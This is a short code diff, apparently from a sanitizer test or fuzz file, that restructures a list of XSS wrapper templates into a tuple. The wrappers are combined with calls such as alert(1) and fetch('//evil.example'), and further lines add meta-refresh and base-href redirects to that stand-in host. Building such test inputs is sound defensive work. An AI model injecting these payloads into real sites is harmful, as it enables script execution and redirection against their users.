@@ -31,24 +31,12 @@ TARGET = "f e d c b a"
 
 
 _CALLS = ("alert(1)", "parent.hits=1", "fetch('//evil.example')")
-_WRAPPERS = [
-    "<script>{}</script>",
-    "<img/src=x/onerror={}>",
-    "<svg/onload={}>",
-    "<body/onload={}>",
-    "<iframe/src=javascript:{}>",
-    "javascript:{}",
-    '"><script>{}</script>',
-    "'><script>{}</script>",
-    "</script><script>{}</script>",
-    "</textarea><script>{}</script>",
-    "--><script>{}</script>",
-    "</style><img/src=x/onerror={}>",
-    '"/onfocus={}/autofocus/x="',
-    "<details/open/ontoggle={}>",
-    "${{{}}}",
-    "{{{{constructor.constructor('{}')()}}}}",
-]
+_WRAPPERS = (
+    *("<script>{}</script>", "<img/src=x/onerror={}>", "<svg/onload={}>", "<body/onload={}>", "<iframe/src=javascript:{}>"),
+    *("javascript:{}", '"><script>{}</script>', "'><script>{}</script>", "</script><script>{}</script>", "--><script>{}</script>"),
+    *("</textarea><script>{}</script>", "</style><img/src=x/onerror={}>", '"/onfocus={}/autofocus/x="', "<details/open/ontoggle={}>"),
+    *("${{{}}}", "{{{{constructor.constructor('{}')()}}}}"),
+)
 HOSTILE = [wrapper.format(call) for wrapper in _WRAPPERS for call in _CALLS]
 HOSTILE += ["\u202e<b>evil</b>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example>"]
 HOSTILE += ["<!--", "]]>&lt;script&gt;"]
